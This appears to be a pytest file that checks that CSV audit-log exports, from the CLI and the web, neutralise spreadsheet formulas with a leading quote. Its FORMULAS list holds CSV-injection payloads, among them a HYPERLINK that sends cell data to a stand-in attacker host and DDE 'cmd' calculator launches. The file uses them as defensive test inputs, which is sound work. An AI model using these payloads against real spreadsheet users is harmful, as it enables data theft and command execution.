"""CSV exports (web and CLI) never hand a spreadsheet a formula: OWASP's leading-quote rule."""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from kb.audit import AuditLog
from kb.schema import AuditRecord
from kb.settings import Settings
from kb.spreadsheet import FORMULA_STARTS
from tests.test_audit import _record as audit_record
from ui import audit_view
from ui.cli import app

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"help")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _record(n: int, question: str) -> AuditRecord:
    return audit_record(n).model_copy(update={"question": question, "answer": f"=1+{n}"})


@pytest.fixture
def formula_log(settings: Settings) -> AuditLog:
    log = AuditLog(settings)
    for n, question in enumerate(FORMULAS):
        log.append(_record(n, question))
    return log


def _assert_no_formula(rows: list[list[str]]) -> None:
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULAS)
    questions = [row[header.index("question")] for row in body]
    assert sorted(questions) == sorted("'" + q for q in FORMULAS)
    for row in body:
        assert row[header.index("answer")].startswith("'=1+")
        assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)], row


def test_cli_csv_export_escapes_formulas(formula_log: AuditLog, settings: Settings) -> None:
    result = CliRunner().invoke(
        app, ["audit", "export", "--format", "csv", "--data-dir", str(settings.data_dir)]
    )
    assert result.exit_code == 0, result.output
    _assert_no_formula(list(csv.reader(io.StringIO(result.stdout, newline=""))))


def test_web_csv_export_escapes_formulas(formula_log: AuditLog) -> None:
    records = formula_log.records()
    table = audit_view.records_table(records, {}, set())
    path = audit_view.export_csv(table, records)
    try:
        with path.open(newline="", encoding="utf-8") as handle:
            _assert_no_formula(list(csv.reader(handle)))
    finally:
        path.unlink()
        path.parent.rmdir()


def test_plain_cells_are_unchanged(formula_log: AuditLog) -> None:
    formula_log.append(_record(99, "How do I apply for rent aid? -> see form 3"))
    text = formula_log.export(None, "csv")
    assert "How do I apply for rent aid? -> see form 3" in text
    assert "'How do I" not in text
